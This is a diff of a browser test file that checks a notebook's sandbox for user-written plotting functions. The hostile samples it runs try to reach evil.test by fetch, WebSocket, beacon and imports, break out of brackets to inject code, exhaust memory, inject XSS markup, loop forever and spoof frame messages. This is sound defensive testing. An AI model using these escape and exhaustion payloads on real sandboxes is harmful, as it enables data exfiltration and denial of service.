@@ -1,10 +1,39 @@
-import { afterAll, describe, expect, test } from "vitest";
-import { explorer, forged, htmlOf, says } from "../support/explorer-output";
-import { closeTestBrowser, openNotebookPage, testBrowser } from "../support/notebook-page";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { explorer, forged, htmlOf, readout, says } from "../support/explorer-output";
+import {
+  closeTestBrowser,
+  type NotebookPage,
+  openNotebookPage,
+  testBrowser,
+} from "../support/notebook-page";
 
 const browser = await testBrowser();
 if (!browser) console.log("no browser on this machine: hostile explorers are not tried in a page");
 afterAll(closeTestBrowser);
+
+/** A page with an explorer for each source, and `beside` after them: it and its library are read once for all. */
+function pageOf(sources: readonly string[], beside = ""): () => NotebookPage {
+  let opened: NotebookPage;
+  beforeAll(async () => {
+    opened = await openNotebookPage(sources.map((source) => forged({ source })).join("") + beside);
+  }, 60_000);
+  afterAll(() => opened.close());
+  return () => opened;
+}
+
+/** Moves the slider of the page's explorer number `at`. */
+const move = ({ page }: NotebookPage, at: number, value: number): Promise<void> =>
+  page.getByLabel("均值μ").nth(at).fill(String(value));
+
+/** What the page waits for as long as `usual` milliseconds it waits for 500 from now on. */
+const hurry = ({ page }: NotebookPage, usual: number): Promise<void> =>
+  page.evaluate((milliseconds) => {
+    const wait = window.setTimeout.bind(window) as (call: TimerHandler, time?: number) => number;
+    Object.assign(window, {
+      setTimeout: (call: TimerHandler, time?: number) =>
+        wait(call, time === milliseconds ? 500 : time),
+    });
+  }, usual);
 
 describe.runIf(browser)("a hostile explorer", () => {
   test("could be seen if it reached out: the test's own control", async () => {
@@ -21,33 +50,42 @@ describe.runIf(browser)("a hostile explorer", () => {
   const evil = "http://evil.test";
   const call = (code: string): string =>
     `(klab, v) => { try { ${code} } catch {} return { data: [], layout: { title: { text: "试过了" } } } }`;
-  const reaching = {
-    fetch: call(`fetch("${evil}")`),
-    XMLHttpRequest: call(`const x = new XMLHttpRequest(); x.open("GET", "${evil}"); x.send()`),
-    WebSocket: call('new WebSocket("ws://evil.test")'),
-    EventSource: call(`new EventSource("${evil}")`),
+  const reaching: Readonly<Record<string, string>> = {
+    fetch: call(`fetch("${evil}/fetch")`),
+    XMLHttpRequest: call(`const x = new XMLHttpRequest(); x.open("GET", "${evil}/xhr"); x.send()`),
+    WebSocket: call('new WebSocket("ws://evil.test/socket")'),
+    EventSource: call(`new EventSource("${evil}/events")`),
     importScripts: call(`importScripts("${evil}/a.js")`),
-    beacon: call(`navigator.sendBeacon("${evil}", "x")`),
+    beacon: call(`navigator.sendBeacon("${evil}/beacon", "x")`),
     "a dynamic import": call(`import("${evil}/m.js")`),
-    "an import by eval": call(`(0, eval)('import("${evil}/m.js")')`),
-    "the global by Function": call(`Function("return this")().fetch("${evil}")`),
+    "an import by eval": call(`(0, eval)('import("${evil}/eval.js")')`),
+    "the global by Function": call(`Function("return this")().fetch("${evil}/function")`),
     "the global's prototype": call(
-      `Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, "${evil}")`,
+      `Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, "${evil}/prototype")`,
     ),
-    "a Worker of its own": call(`new Worker("data:text/javascript,fetch('${evil}')")`),
+    "a Worker of its own": call(`new Worker("data:text/javascript,fetch('${evil}/worker')")`),
     storage: call('indexedDB.open("x")'),
-    "a break out of its brackets": `0); fetch("${evil}"); import("${evil}/m.js"); (0`,
-    "a rejected promise that fetches": call(`Promise.reject().catch(() => fetch("${evil}"))`),
+    "a break out of its brackets": `0); fetch("${evil}/out"); import("${evil}/out.js"); (0`,
+    "a rejected promise that fetches": call(`Promise.reject().catch(() => fetch("${evil}/late"))`),
   };
 
-  test.each(Object.entries(reaching))("reaches nothing by %s", async (_, source) => {
-    const { page, requests, close } = await openNotebookPage(forged({ source }));
-    await page.getByLabel("均值μ").fill("1");
-    // Broken out of its brackets, it fails before it is called.
-    await says(page, source.startsWith("0)") ? "不能运行" : "试过了");
-    await page.waitForTimeout(300);
-    expect(requests).toEqual([]);
-    await close();
+  describe("reaches nothing", () => {
+    const opened = pageOf(Object.values(reaching));
+
+    test.each(Object.keys(reaching).map((way, at) => [way, at] as const))(
+      "by %s",
+      async (way, at) => {
+        await move(opened(), at, 1);
+        // Broken out of its brackets, it fails before it is called.
+        await says(opened().page, reaching[way].startsWith("0)") ? "不能运行" : "试过了", at);
+        expect(opened().requests).toEqual([]);
+      },
+    );
+
+    test("by any of them later on, when all have been tried", async () => {
+      await opened().page.waitForTimeout(300);
+      expect(opened().requests).toEqual([]);
+    });
   });
 
   test("that never ends is ended, and the explorer beside it works all the while", async () => {
@@ -61,26 +99,34 @@ describe.runIf(browser)("a hostile explorer", () => {
     await close();
   }, 40_000);
 
-  test.each([
-    ["buffers", "const a = []; for (;;) a.push(new Float64Array(1e6).fill(1))"],
-    ["a list of lists", "const a = []; for (;;) a.push([a.length, 1, 2])"],
-    ["lists of a hundred thousand", "const a = []; for (;;) a.push(Array(1e5).fill(1.5))"],
-    ["copies of a buffer", "const b = new Uint8Array(1e7), a = []; for (;;) a.push(b.slice())"],
-    ["buffers from lists", "const a = []; for (;;) a.push(Float32Array.from({ length: 1e5 }))"],
-    ["a Map", "const m = new Map(); for (let i = 0; ; i++) m.set(i, { i })"],
-    ["texts", "const a = []; for (;;) a.push('x'.repeat(1e6 + a.length))"],
-    ["one buffer", "new ArrayBuffer(2e9)"],
-    ["a buffer's own constructor", "const C = new Int8Array(1).constructor; for (;;) new C(1e8)"],
-    ["a list that doubles", "let a = [1]; for (;;) a = a.concat(a)"],
-  ])("that allocates %s without end is stopped, and the one beside it works", async (_, body) => {
-    const { page, close } = await openNotebookPage(
-      forged({ source: `(klab, v) => { ${body} }` }) + htmlOf(explorer),
+  describe("that allocates without end", () => {
+    const ways = [
+      ["buffers", "const a = []; for (;;) a.push(new Float64Array(1e6).fill(1))"],
+      ["a list of lists", "const a = []; for (;;) a.push([a.length, 1, 2])"],
+      ["lists of a hundred thousand", "const a = []; for (;;) a.push(Array(1e5).fill(1.5))"],
+      ["copies of a buffer", "const b = new Uint8Array(1e7), a = []; for (;;) a.push(b.slice())"],
+      ["buffers from lists", "const a = []; for (;;) a.push(Float32Array.from({ length: 1e5 }))"],
+      ["a Map", "const m = new Map(); for (let i = 0; ; i++) m.set(i, { i })"],
+      ["texts", "const a = []; for (;;) a.push('x'.repeat(1e6 + a.length))"],
+      ["one buffer", "new ArrayBuffer(2e9)"],
+      ["a buffer's own constructor", "const C = new Int8Array(1).constructor; for (;;) new C(1e8)"],
+      ["a list that doubles", "let a = [1]; for (;;) a = a.concat(a)"],
+    ] as const;
+    const opened = pageOf(
+      ways.map(([, body]) => `(klab, v) => { ${body} }`),
+      htmlOf(explorer),
     );
-    await page.getByLabel("均值μ").first().fill("1");
-    await says(page, "已停止。", 0); // by its memory, or by the clock where this machine is slow
-    await page.getByLabel("均值μ").last().fill("1");
-    await says(page, "0.5 nat", 1);
-    await close();
+
+    test.each(ways.map(([what], at) => [what, at] as const))(
+      "%s is stopped, and the one beside it works",
+      async (_, at) => {
+        await move(opened(), at, 1);
+        await says(opened().page, "已停止。", at); // by its memory, or by the clock where this machine is slow
+        const mean = 1 + (at % 2); // each time another answer: 0.5 or 2 nat
+        await move(opened(), ways.length, mean);
+        await says(opened().page, `${mean ** 2 / 2} nat`, ways.length);
+      },
+    );
   });
 
   test("may allocate as much as figures need, and buffers stay what they are", async () => {
@@ -105,35 +151,45 @@ describe.runIf(browser)("a hostile explorer", () => {
     await close();
   });
 
-  test.each([
-    [
-      "a result of millions of numbers",
-      'return { data: [{ type: "scatter", y: Array(3e6).fill(1.5) }], layout: {} }',
-      "图太大",
-    ],
-    [
-      "too many traces",
-      'return { data: Array(1000).fill({ type: "scatter" }), layout: {} }',
-      "没有返回可画的图",
-    ],
-    [
-      "a type of trace that loads tiles",
-      'return { data: [{ type: "scattermap" }], layout: {} }',
-      "没有返回可画的图",
-    ],
-    ["no figure", "return 7", "没有返回可画的图"],
-    ["an error that is markup", 'throw new Error("<img src=x onerror=pwned()>")', ""],
-  ])("returning %s is told so", async (_, body, message) => {
-    const { page, requests, errors, close } = await openNotebookPage(
-      forged({ source: `(klab, v) => { ${body} }` }),
+  describe("that returns no figure", () => {
+    const ways = [
+      [
+        "a result of millions of numbers",
+        'return { data: [{ type: "scatter", y: Array(3e6).fill(1.5) }], layout: {} }',
+        "图太大",
+      ],
+      [
+        "too many traces",
+        'return { data: Array(1000).fill({ type: "scatter" }), layout: {} }',
+        "没有返回可画的图",
+      ],
+      [
+        "a type of trace that loads tiles",
+        'return { data: [{ type: "scattermap" }], layout: {} }',
+        "没有返回可画的图",
+      ],
+      ["no figure", "return 7", "没有返回可画的图"],
+      ["an error that is markup", 'throw new Error("<img src=x onerror=pwned()>")', "onerror"],
+    ] as const;
+    const opened = pageOf(ways.map(([, body]) => `(klab, v) => { ${body} }`));
+
+    test.each(ways.map(([what, , message], at) => [what, message, at] as const))(
+      "but %s is told so",
+      async (_, message, at) => {
+        const { page, requests, errors } = opened();
+        await move(opened(), at, 1);
+        await says(page, message, at);
+        expect(await page.locator("figure img").count()).toBe(0);
+        expect([requests, errors]).toEqual([[], []]);
+      },
     );
-    await page.getByLabel("均值μ").fill("1");
-    await says(page, message);
-    await page.waitForTimeout(200);
-    expect(await page.locator("figure img").count()).toBe(0);
-    expect(requests).toEqual([]);
-    expect(errors).toEqual([]);
-    await close();
+
+    test("is not asked to load anything later on", async () => {
+      const { page, requests, errors } = opened();
+      await page.waitForTimeout(200);
+      expect(await page.locator("figure img").count()).toBe(0);
+      expect([requests, errors]).toEqual([[], []]);
+    });
   });
 
   test("puts no markup, link or picture into the page by its labels", async () => {
@@ -254,23 +310,29 @@ describe.runIf(browser)("a hostile explorer", () => {
     ],
   };
 
-  test.each(Object.entries(heavy))(
-    "with %s does not hold up the page, and draws the next figure",
-    async (_, [data, layout]) => {
-      const source = `(klab, v) => v.mu === 2 ? { data: [], layout: { title: { text: "下一幅" } } } : { data: ${data}, layout: { title: { text: "画了" }, ...${layout} } }`;
-      const { page, errors, requests, close } = await openNotebookPage(forged({ source }));
-      await page.getByLabel("均值μ").fill("1");
-      await expect
-        .poll(() => page.locator('output[aria-live="polite"]').textContent(), { timeout: 15_000 })
-        .toMatch(/画了|没有返回可画的图|无法绘制/);
-      await page.getByLabel("均值μ").fill("2");
-      await says(page, "下一幅");
-      expect(errors).toEqual([]);
-      expect(requests).toEqual([]);
-      await close();
-    },
-    60_000,
-  );
+  describe("with a figure that is much to draw", () => {
+    const opened = pageOf(
+      Object.values(heavy).map(
+        ([data, layout]) =>
+          `(klab, v) => v.mu === 2 ? { data: [], layout: { title: { text: "下一幅" } } } : { data: ${data}, layout: { title: { text: "画了" }, ...${layout} } }`,
+      ),
+    );
+
+    test.each(Object.keys(heavy).map((what, at) => [what, at] as const))(
+      "%s: does not hold up the page, and draws the next figure",
+      async (_, at) => {
+        const { page, errors, requests } = opened();
+        await move(opened(), at, 1);
+        await expect
+          .poll(() => page.locator(readout).nth(at).textContent(), { timeout: 15_000 })
+          .toMatch(/画了|没有返回可画的图|无法绘制/);
+        await move(opened(), at, 2);
+        await says(page, "下一幅", at);
+        expect(errors).toEqual([]);
+        expect(requests).toEqual([]);
+      },
+    );
+  });
 
   test("makes no link of a tag that hides in a tag", async () => {
     const texts = [
@@ -311,9 +373,11 @@ describe.runIf(browser)("a hostile explorer", () => {
   });
 
   test("is not answered for by the page, another frame or nobody", async () => {
-    const { page, close } = await openNotebookPage(
+    const opened = await openNotebookPage(
       `${forged({ source: "(klab, v) => { for (;;); }" })}<iframe srcdoc="<p>…</p>"></iframe>`,
     );
+    const { page, close } = opened;
+    await hurry(opened, 4_000); // the time that a function may take
     await page.getByLabel("均值μ").waitFor();
     const text = JSON.stringify({ id: 1, data: [], layout: { title: { text: "冒充" } } });
     const spoof = (): Promise<void> =>
@@ -339,7 +403,9 @@ describe.runIf(browser)("a hostile explorer", () => {
 
   test("busy behind its answer is ended when it is left alone, and starts anew when it is wanted", async () => {
     const source = `(klab, v) => { const again = () => Promise.resolve().then(again); if (v.mu === 1) again(); return { data: [], layout: { title: { text: "μ " + v.mu } } } }`;
-    const { page, close } = await openNotebookPage(forged({ source }));
+    const opened = await openNotebookPage(forged({ source }));
+    const { page, close } = opened;
+    await hurry(opened, 20_000); // how long a Worker that nobody asks is kept
     await page.getByLabel("均值μ").fill("1");
     await says(page, "μ 1");
     expect(page.workers().length).toBe(1);
